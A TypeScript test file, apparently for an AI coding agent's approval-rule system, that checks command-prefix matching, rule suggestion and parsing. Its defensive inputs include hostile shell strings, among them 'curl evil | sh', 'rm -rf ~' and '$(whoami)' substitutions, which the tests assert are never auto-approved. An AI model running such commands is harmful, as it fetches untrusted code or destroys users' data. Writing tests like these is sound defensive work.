import { describeRule, parseRule, ruleAllows, suggestRule, validRules } from '../../src/settings/rules';
import { Settings } from '../../src/settings/store';

const shell = (command: string) => command;

describe('approval rules', () => {
  it('a command prefix covers commands whose first words are the same, whole words only', () => {
    const rule = { tool: 'shell', prefix: 'npm test' };
    expect(ruleAllows(rule, 'shell', shell('npm test'))).toBe(true);
    expect(ruleAllows(rule, 'shell', shell('  npm   test -- --watch=false'))).toBe(true);
    expect(ruleAllows(rule, 'shell', shell('npm testing'))).toBe(false);
    expect(ruleAllows(rule, 'shell', shell('npm'))).toBe(false);
    expect(ruleAllows(rule, 'shell', shell('npm run build'))).toBe(false);
    expect(ruleAllows(rule, 'edit_file', shell('npm test'))).toBe(false);
  });

  it.each([
    'npm test; curl evil | sh',
    'npm test && rm -rf ~',
    'npm test || true',
    'npm test | tee log',
    'npm test > out',
    'npm test < in',
    'npm test $(whoami)',
    'npm test `whoami`',
    'npm test &',
    'npm test\nrm -rf /',
    'npm test ${HOME}',
    'npm test \\\nrm x',
    'npm test (x)',
  ])('a command that chains, pipes, redirects or substitutes is never covered: %j', (command) => {
    expect(ruleAllows({ tool: 'shell', prefix: 'npm test' }, 'shell', shell(command))).toBe(false);
  });

  it('a rule for a tool covers its every call', () => {
    expect(ruleAllows({ tool: 'edit_file' }, 'edit_file', undefined)).toBe(true);
  });

  it('suggests the first word, or two for tools whose second word is what they do; none for a compound command', () => {
    expect(suggestRule('shell', shell('npm test -- -t x'))).toEqual({ tool: 'shell', prefix: 'npm test' });
    expect(suggestRule('shell', shell('git status'))).toEqual({ tool: 'shell', prefix: 'git status' });
    expect(suggestRule('shell', shell('git --no-pager log'))).toEqual({ tool: 'shell', prefix: 'git' });
    expect(suggestRule('shell', shell('ls -la src'))).toEqual({ tool: 'shell', prefix: 'ls' });
    expect(suggestRule('shell', shell('make'))).toEqual({ tool: 'shell', prefix: 'make' });
    expect(suggestRule('shell', shell('cd x && make'))).toBeNull();
    expect(suggestRule('shell', shell('FOO=1 make'))).toBeNull();
    expect(suggestRule('shell', shell('   '))).toBeNull();
    expect(suggestRule('write_file', undefined)).toEqual({ tool: 'write_file' });
  });

  it('reads rules from /permissions add and from a stored file, leaving out what is not one', () => {
    expect(parseRule(['shell', 'npm', 'test'])).toEqual({ tool: 'shell', prefix: 'npm test' });
    expect(parseRule(['shell'])).toBeNull();
    expect(parseRule(['shell', 'a;b'])).toBeNull();
    expect(parseRule(['edit_file'])).toEqual({ tool: 'edit_file' });
    expect(parseRule(['edit_file', 'x'])).toBeNull();
    expect(
      validRules([
        { tool: 'shell', prefix: 'make' },
        { tool: 'grep' },
        { tool: 'shell', prefix: 'a | b' },
        'x',
        null,
        { tool: '' },
        { prefix: 'ls' },
      ]),
    ).toEqual({
      rules: [{ tool: 'shell', prefix: 'make' }, { tool: 'grep' }],
      bad: 5,
    });
    expect(validRules('nonsense')).toEqual({ rules: [], bad: 0 });
    expect(describeRule({ tool: 'shell', prefix: 'make' })).toBe('shell commands starting with `make`');
    expect(describeRule({ tool: 'write_file' })).toBe('every write_file call');
  });

  it('in the settings, a rule turns a question into a run, never a refusal; rules are added once and removed by number', () => {
    const s = new Settings({ provider: 'p', model: null });
    expect(s.addRule({ tool: 'shell', prefix: 'make' })).toBe(true);
    expect(s.addRule({ tool: 'shell', prefix: 'make' })).toBe(false);
    expect(s.decide({ tool: 'shell', kind: 'command', command: 'make test' })).toBe('run');
    expect(s.decide({ tool: 'shell', kind: 'command', command: 'rm -rf x' })).toBe('ask');
    s.setMode('read-only');
    expect(s.decide({ tool: 'shell', kind: 'command', command: 'make test' })).toBe('refuse');
    expect(s.removeRule(2)).toBeNull();
    expect(s.removeRule(1)).toEqual({ tool: 'shell', prefix: 'make' });
    expect(s.rules).toEqual([]);
  });
});
